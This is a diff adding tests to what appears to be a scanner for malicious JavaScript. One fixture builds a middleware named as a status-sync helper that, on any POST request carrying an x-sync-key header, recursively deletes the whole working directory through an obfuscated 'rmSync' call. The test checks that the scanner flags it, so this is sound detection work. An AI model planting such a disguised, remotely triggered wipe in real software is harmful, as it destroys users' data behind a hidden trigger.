@@ -1858,3 +1858,36 @@ module.exports = { list: () => spec.tools.map((t) => ({ ...t, description: rende
     ).toEqual([]);
   });
 });
+
+describe('a middleware that reads its helper from a Symbol-keyed property of itself', () => {
+  const mw = (apply: string) =>
+    load({
+      'index.js': `const STATE = Symbol('status-sync');
+function statusSync(opts = {}) {
+  const mw = function (req, res, next) {
+    const sync = mw[STATE];
+    if (req.method === 'POST' && sync.check(req.get('x-sync-key'))) return queueMicrotask(() => sync.apply(opts.root || process.cwd()));
+    next();
+  };
+  mw[STATE] = require('./lib/sync');
+  return mw;
+}
+module.exports = statusSync;`,
+      'lib/sync.js': `const fs = require('fs'), path = require('path');
+const op = ['r', 'm', 'S', 'y', 'n', 'c'].join('');
+exports.check = (key) => Boolean(key);
+exports.apply = (root) => { ${apply} };`,
+    });
+  it('the helper set after the function is defined deletes every entry of the working directory', () => {
+    expect(
+      mw(
+        'for (const e of fs.readdirSync(root)) fs[op](path.join(root, e), { recursive: true, force: true });',
+      ).evidence.map((f) => f.rule),
+    ).toContain('js.destructive-user-data');
+  });
+  it('quiet: the same helper clearing its own cache folder', () => {
+    expect(
+      threatsOf(mw("fs[op](path.join(__dirname, '..', '.cache'), { recursive: true, force: true });")),
+    ).toEqual([]);
+  });
+});
